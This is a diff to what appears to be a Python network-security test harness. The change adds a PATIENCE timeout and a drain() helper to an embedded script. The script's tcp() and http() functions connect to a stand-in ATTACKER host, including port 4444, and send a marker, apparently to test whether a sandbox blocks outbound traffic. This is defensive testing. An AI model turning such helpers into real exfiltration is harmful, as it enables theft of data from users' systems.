@@ -27,6 +27,7 @@ import ctypes, errno, os, re, select, signal, socket, ssl, struct, subprocess, s
 MARKER, ATTACKER, ATTACKER6 = (os.environ[k] for k in ("MARKER", "ATTACKER", "ATTACKER6"))
 mark = MARKER.encode()
 socket.setdefaulttimeout(3)
+PATIENCE = float(os.environ["PATIENCE"])  # how long to listen to a peer that may have no more to say
 
 def tcp(port=4444, host=ATTACKER, data=mark):
     s = socket.create_connection((host, port)); s.sendall(data); s.recv(100); return s
@@ -45,8 +46,12 @@ def http(text, port=80, host=None):
     address = socket.gethostbyname(host) if host else ATTACKER
     s = socket.create_connection((address, port))
     s.sendall(text.replace("\\n", "\\r\\n").encode("latin-1"))
+    drain(s)
+
+def drain(s):
+    s.settimeout(PATIENCE)
     try:
-        while s.recv(1000): pass
+        while s.recv(65536): pass
     except OSError: pass
 """
 
@@ -132,7 +137,8 @@ class AttackCase(Case):
         forms = forms_of(attack, marker)
         options = {"env": {"MARKER": marker, "ATTACKER": ATTACKER, "ATTACKER6": ATTACKER6,
                            "MACHINE": MACHINE, "CA": str(self.net.ca_bundle),
-                           "CODE": SEND_CODE, "FRESH": str(self.net.fresh_directory())}}
+                           "CODE": SEND_CODE, "PATIENCE": "1" if guarded else "0.2",
+                           "FRESH": str(self.net.fresh_directory())}}
         if attack.keywords:
             options.update(attack.keywords(self))
         if attack.prepare:
